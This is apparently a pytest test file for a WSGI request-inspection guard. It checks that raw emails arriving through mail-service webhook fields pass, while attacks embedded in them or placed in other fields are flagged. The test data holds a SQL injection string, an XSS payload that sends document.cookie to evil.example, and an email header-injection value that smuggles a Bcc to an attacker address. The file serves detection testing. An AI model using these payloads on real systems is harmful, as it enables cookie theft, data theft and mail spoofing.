"""Raw mails in the fields of mail services pass; an attack in one does not, nor one elsewhere."""

from __future__ import annotations

import json
from urllib.parse import urlencode

import pytest

from guard_wsgi.detection import Finding, Inspection

FORM = "application/x-www-form-urlencoded"
SQL = "x' UNION SELECT password FROM users -- "
SCRIPT = "<script>fetch('//evil.example/?'+document.cookie)</script>"
MAILS = {
    "a short one": "From: ann@shop.example\nTo: bob@shop.example\nSubject: Lunch\n\nAt noon?\n",
    "two parts": (
        "\r\nReturn-Path: <ann@shop.example>\r\n"
        "Received: from mx.example (mx.example. [192.0.2.7])\r\n        by in.example with ESMTP"
        " id o4si2503040;\r\n        Sat, 30 Jun 2026 06:06:01 -0700 (PDT)\r\n"
        "Message-ID: <17.41.1719@localhost.localdomain>\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/alternative; boundary="b1"\r\n\r\nA mail with parts.\r\n'
        "--b1\r\nContent-Type: text/plain; charset=iso-8859-1\r\n"
        "Content-Transfer-Encoding: quoted-printable\r\n\r\nGr=FC=DFe\r\n"
        "--b1\r\nContent-Type: text/html\r\n\r\n<html><body><p>Hi <b>Bob</b></p></body></html>\r\n"
        "--b1--\r\n"
    ),
    "an answer": (
        "From bob@shop.example Sat Jun 30 06:06:01 2026\nFrom: bob@shop.example\n"
        "Cc: c@shop.example\nBcc: d@shop.example\nReply-To: bob@shop.example\n"
        "In-Reply-To: <1@shop.example>\n"
        "X-Mailer: M 1\nSubject: Re: Lunch\n\n> At noon?\n\nYes.\n"
    ),
    "a file": (
        "From: ann@shop.example\nDate: Sat, 30 Jun 2026 06:06:01 -0700\nMIME-Version: 1.0\n"
        'Content-Type: multipart/mixed; boundary="b2"\n\n--b2\nContent-Type: text/x-python\n'
        'Content-Disposition: attachment; filename="a.py"\n\nimport os\nos.system("ls")\n\n--b2--\n'
    ),
}  # fmt: skip


def in_field(inspection: Inspection, name: str, text: str) -> tuple[Finding, ...]:
    fields = {"recipient": "a@shop.example", name: text}
    return inspection.body(urlencode(fields).encode(), content_type=FORM)


def in_json(inspection: Inspection, document: object) -> tuple[Finding, ...]:
    return inspection.body(json.dumps(document).encode(), content_type="application/json")


def notified(text: str) -> dict[str, str]:
    inner = {"notificationType": "Received", "content": text}
    return {"Type": "Notification", "Message": json.dumps(inner)}


@pytest.mark.parametrize("mail", MAILS)
def test_a_mail_arrives_by_webhook(inspection: Inspection, mail: str) -> None:
    text = MAILS[mail]
    assert not in_field(inspection, "body-mime", text)
    assert not in_json(inspection, {"From": "a@shop.example", "RawEmail": text})
    assert not in_json(inspection, notified(text))


@pytest.mark.parametrize("attack", [SQL, SCRIPT])
def test_an_attack_in_a_mail_is_one(inspection: Inspection, attack: str) -> None:
    for text in (
        f"From: a@shop.example\nTo: b@shop.example\nSubject: {attack}\n\nHi\n",
        f"From: a@shop.example\nTo: b@shop.example\nSubject: x\n\n{attack}\n",
        MAILS["two parts"].replace("Gr=FC=DFe", attack.replace("=", "=3D")),
        MAILS["two parts"].replace("A mail with parts.", attack),
        MAILS["two parts"] + attack,
        f"{attack}\n" + MAILS["a short one"],
    ):
        assert in_field(inspection, "body-mime", text), text
        assert in_json(inspection, notified(text)), text


@pytest.mark.parametrize("name", ["email", "to", "subject", "message", "name"])
def test_lines_of_a_header_stay_an_injection_in_other_fields(
    inspection: Inspection, name: str
) -> None:
    text = "a@shop.example\r\nBcc: c@evil.example\r\nSubject: Win\r\n\r\nClick"
    assert in_field(inspection, name, text)
    assert in_json(inspection, {name: text})
    assert in_json(inspection, {"Message": text})


def test_a_value_that_is_no_mail_is_weighed_as_it_is(inspection: Inspection) -> None:
    for text in ("a@shop.example\r\nBcc: c@evil.example\r\n\r\nClick", SQL, f"Name: {SQL}"):
        assert in_field(inspection, "body-mime", text)
